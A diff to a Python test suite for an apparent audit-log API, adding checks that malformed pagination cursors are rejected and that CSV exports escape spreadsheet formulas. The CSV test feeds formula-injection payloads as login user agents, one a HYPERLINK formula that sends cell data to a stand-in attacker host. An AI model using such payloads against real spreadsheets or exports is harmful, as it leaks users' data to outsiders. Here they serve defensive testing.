@@ -26,6 +26,7 @@ from sqlalchemy.engine import URL
 
 from tests.server import THALLUS
 from tests.service import PASSWORD, SAME_ORIGIN, Api, running_api, settings_for
+from thallus.api.routes.audit_logs import encode_cursor
 from thallus.audit import AuditEvent
 from thallus.audit import append as append_module
 from thallus.audit.append import CoreAppender
@@ -711,8 +712,10 @@ def test_query_endpoint(admin_api: Api) -> None:
     assert {item["action"] for item in both["items"]} == {"login", "login_failed"}
     assert api.client.get("/api/v1/audit-logs", params={"limit": 1001}, headers=admin).status_code == 422
     assert api.client.get("/api/v1/audit-logs", params={"limit": 1000}, headers=admin).status_code == 200
-    bad_cursor = api.client.get("/api/v1/audit-logs", params={"cursor": "not-a-cursor"}, headers=admin)
-    assert (bad_cursor.status_code, bad_cursor.json()["error"]) == (400, "BadRequestError")
+    for cursor in ("not-a-cursor", encode_cursor(2**63), encode_cursor(10**400), encode_cursor(True), "A" * 5000):
+        bad_cursor = api.client.get("/api/v1/audit-logs", params={"cursor": cursor}, headers=admin)
+        assert (bad_cursor.status_code, bad_cursor.json()["error"]) == (422, "ValidationError"), cursor[:40]
+        assert bad_cursor.json()["details"][0]["loc"] == ["query", "cursor"]
     future = (datetime.now(UTC) + timedelta(days=1)).isoformat()
     assert api.client.get("/api/v1/audit-logs", params={"start_date": future}, headers=admin).json()["items"] == []
     assert api.client.get("/api/v1/audit-logs", params={"outcome": "maybe"}, headers=admin).status_code == 422
@@ -750,6 +753,22 @@ def test_export_streams_every_record(admin_api: Api, fmt: str) -> None:
     assert len(records) == 4
     assert [int(r["seq"]) for r in records] == sorted(int(r["seq"]) for r in records), "oldest first"
     assert all(r["action"] == "login_failed" and r["hash"] for r in records)
+
+
+def test_the_csv_export_neutralises_formulas(admin_api: Api) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would evaluate is prefixed with ', JSON Lines stays raw."""
+    api = admin_api
+    admin = api.bearer("root@example.com")
+    formulas = ['=HYPERLINK("https://evil.example/?x="&A2,"Details")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    for number, agent in enumerate(formulas):
+        api.login(f"nobody{number}@example.com", password="Wrong-Password-123!", **{"User-Agent": agent})
+    api.flush_audit()
+    params = {"action": "login_failed"}
+    csv_export = api.client.get("/api/v1/audit-logs/export", params={**params, "format": "csv"}, headers=admin)
+    agents = [row["user_agent"] for row in csv.DictReader(io.StringIO(csv_export.text))]
+    assert agents == ["'" + agent for agent in formulas]
+    lines = api.client.get("/api/v1/audit-logs/export", params={**params, "format": "jsonl"}, headers=admin).text
+    assert [json.loads(line)["user_agent"] for line in lines.splitlines()] == formulas
 
 
 # -- the CLI ---------------------------------------------------------------------------------------
